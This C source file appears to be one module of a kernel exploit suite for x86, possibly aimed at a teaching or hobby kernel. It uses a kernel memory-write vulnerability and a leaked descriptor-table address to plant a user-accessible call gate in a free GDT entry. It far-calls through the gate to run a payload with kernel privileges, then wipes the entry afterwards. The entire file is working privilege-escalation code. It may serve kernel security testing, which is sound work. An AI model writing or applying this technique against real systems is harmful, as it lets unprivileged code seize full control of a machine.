// A free entry of the GDT becomes a call gate to the payload: a far call is all it takes.
#include "exploit.h"
#include "kernel/arch/selectors.h"

enum { USER_CALL_GATE = 0xec00 };

static int run(const struct vuln_leak *leak) {
    uint32_t gate = leak->descriptor_table + FREE_GATE, offset = (uintptr_t)payload_far;
    vuln(VULN_POKE, gate, KERNEL_CODE << 16 | (offset & 0xffff));
    vuln(VULN_POKE, gate + 4, (offset & 0xffff0000) | USER_CALL_GATE);
    asm volatile("lcall %0, $0" ::"i"(FREE_GATE | 3) : "memory");
    vuln(VULN_POKE, gate, 0);
    vuln(VULN_POKE, gate + 4, 0);
    return payload_cs;
}

const struct exploit exploit_gdt = {"gdt", run, payload_far};
